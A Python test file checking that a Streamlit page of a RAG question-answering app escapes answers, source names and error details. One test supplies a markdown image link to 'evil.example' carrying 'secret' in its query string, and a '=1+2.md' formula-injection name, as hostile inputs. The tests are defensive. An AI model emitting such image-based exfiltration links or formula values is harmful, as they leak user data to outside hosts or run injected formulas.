"""The page in Streamlit's test runner, with an imitated API. Does not prove a browser."""

from pathlib import Path
from typing import Any

import httpx
import pytest
from streamlit.testing.v1 import AppTest

from ragkit.markup import plain
from ragkit_testing.pages import HOSTILE, markdown_of, pictures

PAGE = str(Path(__file__).parent.parent / "rag_events" / "ui.py")
SOURCE = {"document": "a.md", "chunk": 0, "text": "Soup.", "score": 0.5}


def page(monkeypatch: pytest.MonkeyPatch, answers: dict[str, httpx.Response]) -> AppTest:
    def request(_: httpx.Client, method: str, path: str, **arguments: Any) -> httpx.Response:
        return answers[path]

    monkeypatch.setattr(httpx.Client, "request", request)
    return AppTest.from_file(PAGE, default_timeout=20)


def test_an_answer_has_its_sources_and_fetches_no_pictures(monkeypatch: pytest.MonkeyPatch) -> None:
    answer = {"answer": "Soup ![x](http://elsewhere/x.png)", "sources": [SOURCE]}
    listed = httpx.Response(200, json=[{"id": "1", "name": "a.md", "chunks": 1}])
    app = page(monkeypatch, {"/documents": listed, "/query": httpx.Response(200, json=answer)}).run()
    app.text_input[0].set_value("What is for lunch?")
    app.button[0].click().run()
    assert not app.exception
    assert app.markdown[0].value == "Soup !\\[x](http://elsewhere/x.png)"
    assert plain("a.md") in app.expander[0].label
    assert list(app.dataframe[0].value["name"]) == ["a.md"]


def test_the_detail_of_a_problem_is_shown(monkeypatch: pytest.MonkeyPatch) -> None:
    problem = httpx.Response(409, json={"title": "Conflict", "detail": "POST /rebuild", "status": 409})
    app = page(monkeypatch, {"/documents": problem}).run()
    assert not app.exception
    assert app.error[0].value == plain("409: POST /rebuild")


def test_an_api_that_does_not_answer_is_reported(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("API_URL", "http://127.0.0.1:9")
    app = AppTest.from_file(PAGE, default_timeout=20).run()
    assert not app.exception
    assert "does not answer" in app.error[0].value


def test_no_name_and_no_answer_makes_the_browser_fetch_a_picture(monkeypatch: pytest.MonkeyPatch) -> None:
    answer = {
        "answer": f"!{HOSTILE} !![a](http://evil.example/?d=secret)",
        "sources": [SOURCE | {"document": HOSTILE}],
    }
    listed = httpx.Response(200, json=[{"id": "1", "name": "=1+2.md", "chunks": 1}])
    app = page(monkeypatch, {"/documents": listed, "/query": httpx.Response(200, json=answer)}).run()
    app.text_input[0].set_value("What is for lunch?")
    app.button[0].click().run()
    assert "\n".join(markdown_of(app)).count("evil") == 3, "the answer has two, the title one"
    assert pictures(app) == []
    assert list(app.dataframe[0].value["name"]) == ["'=1+2.md"]


def test_the_detail_of_a_problem_is_no_markdown(monkeypatch: pytest.MonkeyPatch) -> None:
    problem = httpx.Response(415, json={"detail": HOSTILE})
    app = page(monkeypatch, {"/documents": problem}).run()
    assert app.error[0].value == plain(f"415: {HOSTILE}")
    assert pictures(app) == []
